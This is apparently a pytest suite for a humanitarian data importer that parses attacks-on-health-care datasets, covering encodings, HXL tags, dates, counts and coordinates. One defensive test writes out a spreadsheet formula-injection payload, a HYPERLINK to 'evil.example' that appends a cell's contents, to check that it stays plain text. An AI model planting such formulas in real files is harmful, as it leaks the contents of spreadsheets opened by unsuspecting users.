"""The import core: encodings, CSV/XLSX/JSON readers, HXL rows, dates, counts, coordinates, profiles."""

from __future__ import annotations

import csv
import datetime
import json
from pathlib import Path

import openpyxl
import pytest

from carewatch_core.imports import errors as E
from carewatch_core.imports.cells import as_count
from carewatch_core.imports.dates import DAY, MONTH, DateError, parse_date
from carewatch_core.imports.encoding import detect_encoding
from carewatch_core.imports.errors import FileError
from carewatch_core.imports.hxl import is_hashtag_row, parse_hashtag
from carewatch_core.imports.mapping import Mapper
from carewatch_core.imports.profiles import PROFILES, get_profile
from carewatch_core.imports.tables import open_table

HEADER = [
    "Date",
    "Event Description",
    "Country",
    "Country ISO",
    "Admin 1",
    "Latitude",
    "Longitude",
    "Geo Precision",
    "Reported Perpetrator",
    "Weapon Carried/Used",
    "Health Workers Killed",
    "SiND Event ID",
]
TAGS = [
    "#date",
    "",
    "#country +name",
    "#country +ISO",
    "#admin1",
    "#lat",
    "#long",
    "",
    "#group +perp",
    "#weapons",
    "#affected +healthworker +killed",
    "",
]


def ii_row(event_id: object = 1, date: object = "2016-09-28", **over: object) -> list[object]:
    row = dict(
        zip(
            HEADER,
            [
                date,
                "A hospital was hit.",
                "Syria",
                "SYR",
                "Idlib Governorate",
                35.93,
                36.63,
                "(2) 25 km Precision",
                "NSA",
                "Shelling",
                2,
                event_id,
            ],
            strict=True,
        )
    )
    row.update(over)
    return list(row.values())


def write_csv(path: Path, rows: list[list[object]], encoding: str = "utf-8") -> Path:
    import csv
    import io

    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    path.write_bytes(buffer.getvalue().encode(encoding))
    return path


def mapped(path: Path, profile: str = "insecurity_insight") -> list:
    return list(Mapper(get_profile(profile), open_table(path)))


# Encodings


@pytest.mark.parametrize(
    ("encoding", "expected"),
    [
        ("utf-8", "utf-8"),
        ("utf-8-sig", "utf-8-sig"),
        ("cp1256", "cp1256"),
        ("latin-1", "latin-1"),
        ("utf-16", "utf-16"),
    ],
)
def test_it_detects_the_encoding_and_reads_the_text_right(
    tmp_path: Path, encoding: str, expected: str
) -> None:
    place = "Idlib Governorate" if encoding == "latin-1" else "محافظة إدلب"
    text = "Hôpital de Saraqib" if encoding in {"latin-1", "utf-8", "utf-8-sig"} else "مشفى سراقب"
    path = write_csv(
        tmp_path / "f.csv",
        [HEADER, ii_row(**{"Admin 1": place, "Event Description": text})],
        encoding,
    )
    assert detect_encoding(path).name == expected
    rows = mapped(path)
    assert rows[0].values["Event Description"] == text
    assert rows[0].values["Admin 1"] == place


def test_windows_1252_quotes_are_read_as_quotes(tmp_path: Path) -> None:
    path = write_csv(
        tmp_path / "f.csv", [HEADER, ii_row(**{"Event Description": "“Hospital” – hit"})], "cp1252"
    )
    assert detect_encoding(path).name == "cp1252"
    assert mapped(path)[0].values["Event Description"] == "“Hospital” – hit"


def test_a_binary_file_is_refused_with_the_offset(tmp_path: Path) -> None:
    path = tmp_path / "f.csv"
    path.write_bytes(b"Date,SiND Event ID\n2016-01-01,1\n\x00\x01\x02\xff\xfe\x00")
    with pytest.raises(FileError) as caught:
        detect_encoding(path)
    assert caught.value.code == E.UNDECODABLE


def test_c1_controls_in_valid_utf8_are_text_as_in_the_published_workbook(tmp_path: Path) -> None:
    """The Insecurity Insight workbook's descriptions hold mis-encoded quotes ("â€\x9d"); saved as
    UTF-8 CSV they are valid UTF-8 and must be read as they are."""
    text = "\u00e2\u20ac\u0153waiting to die\u00e2\u20ac\x9d"
    path = write_csv(tmp_path / "f.csv", [HEADER, ii_row(**{"Event Description": text})], "utf-8")
    assert detect_encoding(path).name == "utf-8"
    assert mapped(path)[0].values["Event Description"] == text


def test_a_control_byte_is_refused_at_its_byte_offset(tmp_path: Path) -> None:
    path = tmp_path / "f.csv"
    head = "Date,SiND Event ID\nمشفى,1\n".encode()
    path.write_bytes(head + b"\x01,2\n")
    with pytest.raises(FileError) as caught:
        detect_encoding(path)
    assert caught.value.code == E.UNDECODABLE and caught.value.params["offset"] == len(head)


def test_semicolon_csv_is_read(tmp_path: Path) -> None:
    path = tmp_path / "f.csv"
    path.write_text(
        ";".join(HEADER) + "\n" + ";".join(str(v) for v in ii_row()) + "\n", encoding="utf-8"
    )
    assert mapped(path)[0].key == "1"


def test_the_delimiter_is_read_below_a_title_line_that_holds_none(tmp_path: Path) -> None:
    path = tmp_path / "f.csv"
    path.write_text(
        "Attacks on health care, 2016\n\n"
        + ";".join(HEADER)
        + "\n"
        + ";".join(str(v) for v in ii_row())
        + "\n",
        encoding="utf-8",
    )
    rows = list(open_table(path).rows)
    assert rows[2].cells[:2] == tuple(HEADER[:2])


@pytest.mark.parametrize(("delimiter", "inside"), [(",", "; "), (";", ", "), ("\t", ", ")])
def test_the_delimiter_is_not_misled_by_another_inside_quoted_text(
    tmp_path: Path, delimiter: str, inside: str
) -> None:
    path = tmp_path / "f.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, delimiter=delimiter)
        writer.writerow(["A title, with a comma"])
        writer.writerow(["id", "description", "killed"])
        for n in range(8):
            writer.writerow([n, inside.join(["shelling"] * (n + 2)), n])
    rows = list(open_table(path).rows)
    assert rows[1].cells == ("id", "description", "killed")
    assert all(len(row.cells) == 3 for row in rows[1:])


# Layout: header and HXL rows


def test_the_hxl_row_is_found_under_the_header_and_columns_map_by_hashtag(tmp_path: Path) -> None:
    renamed = [
        "When",
        "What",
        "Country",
        "ISO",
        "Region",
        "Y",
        "X",
        "Geo Precision",
        "Who",
        "Weapon",
        "HW killed",
        "id",
    ]
    path = write_csv(tmp_path / "f.csv", [renamed, [*TAGS[:-1], "#event +id"], ii_row(event_id=7)])
    mapper = Mapper(get_profile("hxl"), open_table(path))
    row = next(iter(mapper))
    assert mapper.layout.hashtag_row == 2
    assert row.key == "7"
    assert row.record["counts"] == {"killed_hw": [2, None]}
    assert row.record["place_pcode"] == "SY07"


def test_a_generic_hxl_file_without_a_hashtag_row_is_refused(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "f.csv", [HEADER, ii_row()])
    with pytest.raises(FileError) as caught:
        mapped(path, "hxl")
    assert caught.value.code == E.HXL_MISSING


def test_a_generic_hxl_file_without_a_date_hashtag_says_so(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "f.csv", [HEADER[1:], TAGS[1:], ii_row()[1:]])
    with pytest.raises(FileError) as caught:
        mapped(path, "hxl")
    assert (caught.value.code, caught.value.params) == (E.COLUMN_MISSING, {"columns": "#date"})


def test_a_hashtag_row_away_from_the_header_is_refused(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "f.csv", [HEADER, ii_row(), TAGS, ii_row(event_id=2)])
    with pytest.raises(FileError) as caught:
        mapped(path)
    assert caught.value.code == E.HXL_MISPLACED
    assert caught.value.params == {"row": 3, "header_row": 1}


def test_a_title_above_the_header_is_fine_but_data_above_it_is_refused(tmp_path: Path) -> None:
    titled = write_csv(tmp_path / "a.csv", [["Attacks on health care 2016"], [], HEADER, ii_row()])
    assert mapped(titled)[0].number == 4
    misplaced = write_csv(tmp_path / "b.csv", [ii_row(event_id=9), HEADER, ii_row()])
    with pytest.raises(FileError) as caught:
        mapped(misplaced)
    assert caught.value.code == E.HEADER_MISPLACED


def test_a_file_without_the_id_column_names_what_is_missing(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "f.csv", [HEADER[:-1], ii_row()[:-1]])
    with pytest.raises(FileError) as caught:
        mapped(path)
    assert caught.value.code == E.HEADER_MISSING
    assert "SiND Event ID" in caught.value.params["columns"]


def test_hashtag_parsing() -> None:
    tag = parse_hashtag("#affected +HealthWorker +killed")
    assert (
        tag is not None and tag.tag == "affected" and tag.attributes == {"healthworker", "killed"}
    )
    assert parse_hashtag("# not a tag") is None
    assert is_hashtag_row(["#date", None, "#adm1", ""])
    assert not is_hashtag_row(["Date", "#adm1", "Admin 2"])


# XLSX


def workbook(path: Path, rows: list[list[object]], **sheet_options: object) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Incidents"
    for row in rows:
        sheet.append(row)
    if sheet_options.get("merge"):
        sheet.merge_cells(str(sheet_options["merge"]))
    if sheet_options.get("protect"):
        sheet.protection.sheet = True
    if sheet_options.get("formula_text"):
        cell = sheet.cell(row=3, column=2)
        cell.value = str(sheet_options["formula_text"])
        cell.data_type = "s"
    book.save(path)
    return path


def test_xlsx_rows_stream_with_dates_as_dates(tmp_path: Path) -> None:
    path = workbook(
        tmp_path / "f.xlsx", [HEADER, TAGS, ii_row(date=datetime.datetime(2016, 9, 28, 14, 30))]
    )
    row = mapped(path)[0]
    assert row.number == 3
    assert row.record["date"] == datetime.date(2016, 9, 28)
    assert row.extra["time"] == "14:30:00"


def test_merged_cells_are_refused_with_their_ranges(tmp_path: Path) -> None:
    path = workbook(tmp_path / "f.xlsx", [HEADER, ii_row(), ii_row(event_id=2)], merge="E2:E3")
    with pytest.raises(FileError) as caught:
        open_table(path)
    assert caught.value.code == E.MERGED_CELLS
    assert caught.value.params["ranges"] == "E2:E3"


def test_a_protected_sheet_is_read_and_noted(tmp_path: Path) -> None:
    path = workbook(tmp_path / "f.xlsx", [HEADER, ii_row()], protect=True)
    table = open_table(path)
    assert table.notes == ["protected"]
    assert len(list(Mapper(get_profile("insecurity_insight"), table))) == 1


def test_an_empty_sheet_and_a_password_protected_workbook_are_refused(tmp_path: Path) -> None:
    with pytest.raises(FileError) as caught:
        mapped(workbook(tmp_path / "empty.xlsx", []))
    assert caught.value.code == E.EMPTY_SHEET
    encrypted = tmp_path / "locked.xlsx"
    encrypted.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)
    with pytest.raises(FileError) as caught:
        open_table(encrypted)
    assert caught.value.code == E.ENCRYPTED


def test_formula_text_stays_text(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    path = workbook(
        tmp_path / "f.xlsx", [HEADER, ii_row(), ii_row(event_id=2)], formula_text=formula
    )
    assert mapped(path)[1].values["Event Description"] == formula
    csv_path = write_csv(tmp_path / "f.csv", [HEADER, ii_row(**{"Event Description": formula})])
    assert mapped(csv_path)[0].record["description"] == formula


def test_a_huge_cell_rejects_its_row_only(tmp_path: Path) -> None:
    path = write_csv(
        tmp_path / "f.csv",
        [HEADER, ii_row(**{"Event Description": "x" * 40_000}), ii_row(event_id=2)],
    )
    first, second = mapped(path)
    assert first.rejected and first.issues[0].code == E.CELL_TOO_LARGE
    assert not second.rejected


# JSON


def test_json_api_form_is_read(tmp_path: Path) -> None:
    path = tmp_path / "f.json"
    path.write_text(
        json.dumps({"data": [dict(zip(HEADER, ii_row(event_id=42), strict=True))]}),
        encoding="utf-8",
    )
    row = mapped(path)[0]
    assert row.key == "42" and row.record["weapons"] == ["shelling"]


def test_bad_json_says_where(tmp_path: Path) -> None:
    path = tmp_path / "f.json"
    path.write_text('[{"Date": "2016-01-01",}]', encoding="utf-8")
    with pytest.raises(FileError) as caught:
        open_table(path)
    assert caught.value.code == E.BAD_JSON and caught.value.params["line"] == 1


# Dates


@pytest.mark.parametrize(
    ("value", "day_first", "expected", "precision", "time"),
    [
        ("2016-09-28", None, datetime.date(2016, 9, 28), DAY, None),
        ("2/8/24 12:00 AM", False, datetime.date(2024, 2, 8), DAY, None),
        ("2/8/24 1:30 PM", False, datetime.date(2024, 2, 8), DAY, datetime.time(13, 30)),
        ("28/09/2016", None, datetime.date(2016, 9, 28), DAY, None),
        (42822, None, datetime.date(2017, 3, 28), DAY, None),
        ("42822", None, datetime.date(2017, 3, 28), DAY, None),
        (42822.5, None, datetime.date(2017, 3, 28), DAY, datetime.time(12, 0)),
        ("٢٠١٦-٠٩-٢٨", None, datetime.date(2016, 9, 28), DAY, None),
        ("۲۰۱۶-۰۹-۲۸", None, datetime.date(2016, 9, 28), DAY, None),
        ("15 March 2020", None, datetime.date(2020, 3, 15), DAY, None),
        ("September 2016", None, datetime.date(2016, 9, 1), MONTH, None),
        ("2016-09", None, datetime.date(2016, 9, 1), MONTH, None),
        (datetime.datetime(2016, 9, 28), None, datetime.date(2016, 9, 28), DAY, None),
    ],
)
def test_dates_in_mixed_formats(
    value: object,
    day_first: bool | None,
    expected: datetime.date,
    precision: int,
    time: datetime.time | None,
) -> None:
    parsed = parse_date(value, day_first=day_first)
    assert parsed is not None
    assert (parsed.date, parsed.precision, parsed.time) == (expected, precision, time)


@pytest.mark.parametrize(
    ("value", "code"),
    [
        ("03/04/2020", E.AMBIGUOUS_DATE),
        ("2016", E.IMPRECISE_DATE),
        ("yesterday", E.BAD_DATE),
        ("2016-02-30", E.BAD_DATE),
        (60, E.BAD_DATE),
        ("13:00 PM", E.BAD_DATE),
        (True, E.BAD_DATE),
    ],
)
def test_unreadable_dates_say_why(value: object, code: str) -> None:
    with pytest.raises(DateError) as caught:
        parse_date(value, day_first=None)
    assert caught.value.code == code


@pytest.mark.parametrize(
    ("dates", "expected"),
    [
        (["21/12/2023", "7/3/2021"], datetime.date(2021, 3, 7)),  # saved in a day-first locale
        (["12/21/2023", "3/7/2021"], datetime.date(2021, 3, 7)),  # saved in a month-first locale
        (
            ["3/7/2021"],
            datetime.date(2021, 3, 7),
        ),  # the file does not say: Insecurity Insight's own order
        (["21/12/2023", "12/21/2023", "3/7/2021"], None),  # the file says both: refused
    ],
)
def test_a_files_own_unambiguous_dates_settle_its_ambiguous_ones(
    tmp_path: Path, dates: list[str], expected: datetime.date | None
) -> None:
    rows = [ii_row(event_id=n, date=d) for n, d in enumerate(dates, start=1)]
    last = mapped(write_csv(tmp_path / "f.csv", [HEADER, TAGS, *rows]))[-1]
    if expected is None:
        assert last.rejected and last.issues[0].code == E.AMBIGUOUS_DATE
    else:
        assert not last.rejected and last.record["date"] == expected


def test_the_generic_hxl_profile_refuses_doubt_unless_the_file_settles_it(tmp_path: Path) -> None:
    alone = write_csv(tmp_path / "a.csv", [HEADER, TAGS, ii_row(date="3/7/2021")])
    generic = mapped(alone, "hxl")[0]
    assert generic.rejected and generic.issues[0].code == E.AMBIGUOUS_DATE
    settled = write_csv(
        tmp_path / "b.csv",
        [HEADER, TAGS, ii_row(event_id=1, date="21/12/2023"), ii_row(event_id=2, date="3/7/2021")],
    )
    assert mapped(settled, "hxl")[1].record["date"] == datetime.date(2021, 7, 3)


@pytest.mark.parametrize(
    ("cells", "default", "expected"),
    [
        (["21/12/2023", "1/2/2020"], False, True),
        (["12/21/2023 10:30 AM"], True, False),
        (["٢١/١٢/٢٠٢٣"], None, True),
        (["2023-12-21", "3/4/2020", 42822, None], False, False),
        ([datetime.datetime(2023, 12, 21)], None, None),
        (["21.12.2023", "12/21/2023"], False, None),
    ],
)
def test_the_date_order_is_what_the_files_unambiguous_dates_say(
    cells: list[object], default: bool | None, expected: bool | None
) -> None:
    from carewatch_core.imports.dates import date_order

    assert date_order(cells, default) is expected


def test_a_blank_date_is_none_and_rejects_the_row(tmp_path: Path) -> None:
    assert parse_date("  ") is None
    row = mapped(write_csv(tmp_path / "f.csv", [HEADER, ii_row(date="")]))[0]
    assert row.rejected and row.issues[0].code == E.MISSING_DATE


# Counts


@pytest.mark.parametrize(
    ("cell", "low", "high", "flag"),
    [
        (None, None, None, None),
        ("", None, None, None),
        (3, 3, None, None),
        (2.0, 2, None, None),
        ("٣", 3, None, None),
        ("3-5", 3, 5, None),
        ("some", None, None, E.VAGUE_COUNT),
        ("unknown", None, None, E.VAGUE_COUNT),
    ],
)
def test_blank_counts_stay_unknown(
    cell: object, low: int | None, high: int | None, flag: str | None
) -> None:
    count, found = as_count(cell)
    assert (count.low, count.high, found) == (low, high, flag)


def test_a_blank_count_is_absent_from_the_record_not_zero(tmp_path: Path) -> None:
    row = mapped(write_csv(tmp_path / "f.csv", [HEADER, ii_row(**{"Health Workers Killed": ""})]))[
        0
    ]
    assert "killed_hw" not in row.record["counts"]
    assert row.extra["counting_rule"] == "one_when_unspecified"


def test_a_malformed_count_is_flagged_and_unknown(tmp_path: Path) -> None:
    row = mapped(
        write_csv(tmp_path / "f.csv", [HEADER, ii_row(**{"Health Workers Killed": "-2"})])
    )[0]
    assert not row.rejected and row.issues[0].code == E.BAD_COUNT
    assert "killed_hw" not in row.record["counts"]


# Coordinates


@pytest.mark.parametrize(
    ("lat", "lon", "code"),
    [
        (0, 0, E.ZERO_COORDINATE),
        (48.85, 2.35, E.OUTSIDE_COUNTRY),
        (40.1, 35.5, E.OUTSIDE_COUNTRY),
        ("north", 36.6, E.BAD_COORDINATE),
        (95, 36.6, E.BAD_COORDINATE),
        ("", 36.6, E.HALF_COORDINATE),
    ],
)
def test_implausible_coordinates_are_left_out_and_flagged(
    tmp_path: Path, lat: object, lon: object, code: str
) -> None:
    row = mapped(write_csv(tmp_path / "f.csv", [HEADER, ii_row(Latitude=lat, Longitude=lon)]))[0]
    assert not row.rejected
    assert [i.code for i in row.issues] == [code]
    assert "lat" not in row.record and row.values["Longitude"] in (lon, str(lon))


def test_good_coordinates_keep_their_precision(tmp_path: Path) -> None:
    row = mapped(
        write_csv(tmp_path / "f.csv", [HEADER, ii_row(Latitude="٣٥٫٩٣", Longitude="36.63")])
    )[0]
    assert (row.record["lat"], row.record["lon"], row.extra["location_precision"]) == (
        35.93,
        36.63,
        2,
    )


def test_coordinates_of_another_country_are_not_checked_against_syria(tmp_path: Path) -> None:
    row = mapped(
        write_csv(
            tmp_path / "f.csv",
            [
                HEADER,
                ii_row(
                    Country="OPT", **{"Country ISO": "PSE", "Latitude": 31.5, "Longitude": 34.47}
                ),
            ],
        )
    )[0]
    assert row.record["lat"] == 31.5 and "place_pcode" not in row.record


# Vocabularies


def test_unknown_values_are_kept_and_flagged_never_dropped(tmp_path: Path) -> None:
    row = mapped(
        write_csv(
            tmp_path / "f.csv",
            [
                HEADER,
                ii_row(
                    **{
                        "Weapon Carried/Used": "Shelling, Slingshot",
                        "Reported Perpetrator": "Vigilante",
                    }
                ),
            ],
        )
    )[0]
    assert row.record["weapons"] == ["shelling"]
    assert {(i.code, i.params["label"]) for i in row.issues} == {
        (E.UNKNOWN_VALUE, "slingshot"),
        (E.UNKNOWN_VALUE, "Vigilante"),
    }
    assert row.values["Weapon Carried/Used"] == "Shelling, Slingshot"


def test_labels_with_commas_are_not_split(tmp_path: Path) -> None:
    row = mapped(
        write_csv(
            tmp_path / "f.csv",
            [HEADER, ii_row(**{"Weapon Carried/Used": "Firearms, Stones, Sticks and Gravel"})],
        )
    )[0]
    assert row.record["weapons"] == ["other", "firearms"] and not row.issues


def test_duplicate_and_missing_ids_are_rejected(tmp_path: Path) -> None:
    rows = mapped(
        write_csv(
            tmp_path / "f.csv",
            [HEADER, ii_row(event_id=1), ii_row(event_id=1), ii_row(event_id="")],
        )
    )
    assert [r.rejected for r in rows] == [False, True, True]
    assert [rows[1].issues[0].code, rows[2].issues[0].code] == [E.DUPLICATE_ID, E.MISSING_ID]


def test_who_ssa_attack_types_split_and_certainty() -> None:
    from carewatch_core.imports.layout import Layout
    from carewatch_core.imports.tables import RawRow, Table

    profile = PROFILES["who_ssa"]
    header = (
        "Attack ID",
        "Attack Date",
        "Attack Time",
        "Country / Territory",
        "Certainty Level",
        "Attack Type",
        "Total Death",
        "HW Arrest",
    )
    cells = (
        "SYR1",
        "2/8/24 12:00 AM",
        "11:00",
        "Syrian Arab Republic",
        "Probable",
        "Violence with heavy weapons (requires more than one person to use such as firearms, tanks), "
        "Violence with individual weapons (knives, bricks, clubs, guns, grenades and improvised "
        "explosive devices (IED)",
        "4.0",
        "",
    )
    table = Table("csv", iter([RawRow(1, header), RawRow(2, cells)]))
    row = next(iter(Mapper(profile, table)))
    assert isinstance(Mapper(profile, Table("csv", iter([RawRow(1, header)]))).layout, Layout)
    assert row.record["attack_types"] == ["heavy_weapons", "individual_weapons"]
    assert row.record["certainty"] == "probable" and row.record["place_pcode"] == "SY"
    assert row.extra["totals"] == {"killed": [4, None]} and row.record["counts"] == {}
    assert row.extra["time"] == "11:00:00"


def test_acled_precision_codes(tmp_path: Path) -> None:
    header = [
        "event_id_cnty",
        "event_date",
        "time_precision",
        "sub_event_type",
        "actor1",
        "inter1",
        "country",
        "admin1",
        "admin2",
        "admin3",
        "location",
        "latitude",
        "longitude",
        "geo_precision",
        "notes",
        "fatalities",
    ]
    row = [
        "SYR123",
        "2019-05-05",
        "2",
        "Air/drone strike",
        "Military Forces of Russia",
        "8",
        "Syria",
        "Idleb",
        "Ariha",
        "",
        "Kafr Nobol",
        "35.6",
        "36.55",
        "1",
        "Hospital hit",
        "3",
    ]
    found = mapped(write_csv(tmp_path / "a.csv", [header, row]), "acled")[0]
    assert (found.record["date_precision"], found.extra["location_precision"]) == (2, 2)
    assert found.extra["perpetrator"] == "foreign_forces" and found.record["attack_types"] == [
        "heavy_weapons"
    ]
    assert found.record["place_pcode"].startswith("SY07") and found.extra["totals"] == {
        "killed": [3, None]
    }


def test_swapped_coordinates_are_pointed_out(tmp_path: Path) -> None:
    row = mapped(write_csv(tmp_path / "f.csv", [HEADER, ii_row(Latitude=40.1, Longitude=35.5)]))[0]
    assert row.issues[0].params["swapped"] is True
